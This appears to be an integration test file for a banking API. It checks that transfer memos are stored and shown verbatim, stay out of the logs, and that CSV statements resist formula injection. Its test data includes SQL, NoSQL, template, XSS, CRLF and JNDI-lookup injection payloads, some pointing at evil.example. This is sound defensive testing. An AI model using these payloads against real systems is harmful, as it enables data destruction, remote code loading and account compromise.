import { readFileSync } from 'node:fs';
import path from 'node:path';
import { SERVICES } from '../../tools/stack/services.ts';
import { statePaths } from '../../tools/stack/paths.ts';
import { ask, serviceUrl } from './bank.ts';
import { euroAccountOf, pay, type Payee, payeeOf } from './objects.ts';
import { bearer, type Client, client, disconnect } from './persons.ts';
import { asOwner } from './state.ts';

// S40: text is text. It is stored and shown as it came, runs nowhere, and is in no log.

const MARK = 'zq7marker';
const TEXTS: readonly (readonly [string, string])[] = [
  ['SQL', `${MARK}'); DROP TABLE transfers; --`],
  ['SQL in a string', `${MARK}' OR '1'='1`],
  ['a NoSQL operator', `${MARK} {"$gt": ""}`],
  ['a template', `${MARK} {{7*7}} \${7*7} #{7*7} %s %n %d`],
  ['a lookup of a log library', `${MARK} \${jndi:ldap://evil.example/a}`],
  ['a log line of its own', `${MARK}\n{"level":"info","event":"transfer.posted"}`],
  ['a header', `${MARK}\r\nSet-Cookie: a=b`],
  ['a colour for a terminal', `${MARK} \u001b[31mred\u001b[0m`],
  ['a script', `${MARK} <script>alert(1)</script>`],
  ['an image that fails', `${MARK} <img src=x onerror=alert(1)>`],
  ['a formula', `=HYPERLINK("http://evil.example","${MARK}")`],
  ['text from right to left', `${MARK} \u202e000001\u202c`],
  ['characters of no width', `${MARK}\u200b\u200d\ufeff`],
  ['letters that combine', `${MARK} Ze\u0301lie 🏳️‍🌈 Ω`],
];

describe('a memo', () => {
  let payer: Client;
  let payee: Payee;
  let from = '';

  beforeAll(async () => {
    payer = await client('elif.kaya');
    payee = payeeOf(await client('carmen.ortega'));
    from = euroAccountOf(payer).accountId;
  }, 60_000);
  afterAll(disconnect);

  const read = async (where: string): Promise<string> =>
    (await ask(serviceUrl('bff'), { method: 'GET', path: where, headers: bearer(payer.token) })).text;

  it.each(TEXTS)('that is %s comes back as it was', async (_what, reference) => {
    const paid = await pay(payer, { from, to: payee, reference });
    expect(paid.status).toBe(201);
    const { transferId } = paid.json as { transferId: string };
    const own = JSON.parse(await read(`/api/v1/transfers/${transferId}`)) as { reference: string };
    expect(own.reference).toBe(reference);
    const page = JSON.parse(await read(`/api/v1/accounts/${from}/movements?limit=5`)) as {
      movements: { transferId: string; reference: string }[];
    };
    expect(page.movements.find((movement) => movement.transferId === transferId)?.reference).toBe(reference);
    const rows = await asOwner<{ reference: string }>(
      'banking_core',
      'SELECT reference FROM transfers WHERE transfer_id = $1',
      [transferId],
    );
    expect(rows).toEqual([{ reference }]);
  });

  it('is no formula in a statement for a spreadsheet', async () => {
    const today = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Madrid' }).format(new Date());
    const csv = await read(`/api/v1/accounts/${from}/statement?from=${today}&to=${today}&format=csv`);
    expect(csv).toContain('HYPERLINK');
    // A cell begins at a line, a separator or the quote after one; a spreadsheet runs what begins with one of these.
    expect(csv).not.toMatch(/(?:^|[,;\t])"?[=@+]/m);
  });

  it('is in no log, and every line of every log is one JSON object', () => {
    for (const service of SERVICES) {
      const log = readFileSync(path.join(statePaths(process.env).logs, `${service}.log`), 'utf8');
      expect([service, log.includes(MARK)]).toEqual([service, false]);
      const broken = log.split('\n').filter((line) => line !== '' && !isJsonObject(line));
      expect([service, broken]).toEqual([service, []]);
    }
  });
});

describe('what a request says of itself', () => {
  afterAll(disconnect);

  it.each(['a\nb', '%0d%0aevil: 1', '00-zz-zz-01', `00-${'0'.repeat(32)}-${'0'.repeat(16)}-01`, "'; --"])(
    'is no trace when it is %j',
    async (traceparent) => {
      const sent = traceparent.replace('\n', ' ');
      const answer = await ask(serviceUrl('bff'), {
        method: 'GET',
        path: '/api/v1/accounts',
        headers: { traceparent: sent, 'x-correlation-id': sent, 'user-agent': `${MARK} \${jndi:ldap://evil.example}` },
      });
      expect(answer.status).toBe(401);
      const { traceId } = answer.json as { traceId: string };
      expect(traceId).toMatch(/^[0-9a-f]{32}$/);
      expect(answer.headers.get('x-correlation-id')).toBe(traceId);
      expect(traceId).not.toBe('0'.repeat(32));
    },
  );
});

function isJsonObject(line: string): boolean {
  try {
    const value: unknown = JSON.parse(line);
    return typeof value === 'object' && value !== null && !Array.isArray(value);
  } catch {
    return false;
  }
}
